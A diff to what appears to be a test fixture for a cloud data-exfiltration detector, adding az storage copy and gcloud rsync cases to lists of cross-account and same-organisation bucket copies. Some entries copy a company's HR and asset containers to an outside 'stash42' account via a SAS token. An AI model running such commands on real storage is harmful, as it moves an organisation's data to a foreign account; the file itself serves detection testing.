@@ -28,6 +28,8 @@ ACROSS_ACCOUNTS = [
     "--account=someone@example.net",
     "azcopy copy 'https://acmefiles.blob.core.windows.net/hr/*' "
     "'https://stash42.blob.core.windows.net/in?sv=2022-11-02&sp=racw&sig=QWERTY' --recursive",
+    "az storage copy -s https://acmefiles.blob.core.windows.net/assets "
+    "-d 'https://stash42.blob.core.windows.net/in?sv=2022-11-02&sp=racw&sig=QWERTY' --recursive",
 ]
 
 
@@ -42,6 +44,9 @@ BUCKET_TO_BUCKET = [
     "aws s3 sync s3://vendor-feed s3://acme-feed",
     "gsutil cp gs://acme-ledger/q3.csv gs://acme-archive/",
     "gsutil -m rsync -r gs://acme-logs gs://acme-logs-copy",
+    "gcloud storage rsync -r gs://acme-logs gs://acme-logs-copy",
+    "az storage copy -s https://acmefiles.blob.core.windows.net/assets -d https://acmefiles.blob.core.windows.net/bak "
+    "--recursive",
     "azcopy copy 'https://acmefiles.blob.core.windows.net/assets' 'https://acmearchive.blob.core.windows.net/assets' "
     "--recursive",
 ]
